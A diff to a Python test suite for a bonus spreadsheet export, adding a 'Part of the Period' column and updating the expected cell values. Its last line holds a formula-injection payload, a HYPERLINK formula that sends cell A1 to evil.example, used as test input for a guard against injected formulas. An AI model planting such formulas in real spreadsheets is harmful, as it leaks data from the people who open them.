@@ -149,6 +149,7 @@ class TestBonusXlsx(BonusCase):
              "kpis": [{"value": 250000, "target": 200000, "score": 125, "weight": 100}],
              "total_score": 125, "amount": 6250.5},
             {"name": "Vasily", "login": "vasily", "profile": "Sales", "team": "Team A",
+             "note": "Paid for 15 of the 30 days of the period.",
              "kpis": [{"value": 100000, "target": 200000, "score": 50, "weight": 100}],
              "total_score": 50, "amount": 0},
         ]
@@ -157,20 +158,23 @@ class TestBonusXlsx(BonusCase):
         self.assertEqual(ws["B2"].value, "ACME")
         header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
         titles = [c.value for c in ws[header_row]]
-        self.assertEqual(titles[:9], ["Employee", "Login", "Profile", "Sales Team",
-                                      "Net profit: Value", "Net profit: Target",
-                                      "Net profit: Score (%)", "Net profit: Weight (%)",
-                                      "Weighted Score (%)"])
+        self.assertEqual(titles[:10], ["Employee", "Login", "Profile", "Sales Team",
+                                       "Part of the Period", "Net profit: Value", "Net profit: Target",
+                                       "Net profit: Score (%)", "Net profit: Weight (%)",
+                                       "Weighted Score (%)"])
         first = ws[header_row + 1]
         self.assertEqual([c.value for c in first], ["Valery", "valery", "Sales", "Team A",
-                                                    250000, 200000, 125, 100, 125, 6250.5])
-        self.assertIsInstance(first[9].value, float)
-        self.assertIn("EUR", first[9].number_format)
+                                                    "", 250000, 200000, 125, 100, 125,
+                                                    6250.5])
+        self.assertIsInstance(first[10].value, float)
+        self.assertIn("EUR", first[10].number_format)
+        self.assertEqual(ws[header_row + 2][4].value,
+                         "Paid for 15 of the 30 days of the period.")
         totals = ws[header_row + 3]
         self.assertEqual(totals[0].value, "Total")
-        self.assertEqual((totals[8].value, totals[9].value), (87.5, 6250.5))
+        self.assertEqual((totals[9].value, totals[10].value), (87.5, 6250.5))
         self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
-        self.assertEqual(ws.auto_filter.ref, "A%s:J%s" % (header_row, header_row + 2))
+        self.assertEqual(ws.auto_filter.ref, "A%s:K%s" % (header_row, header_row + 2))
 
     def test_strings_are_never_formulas(self):
         evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
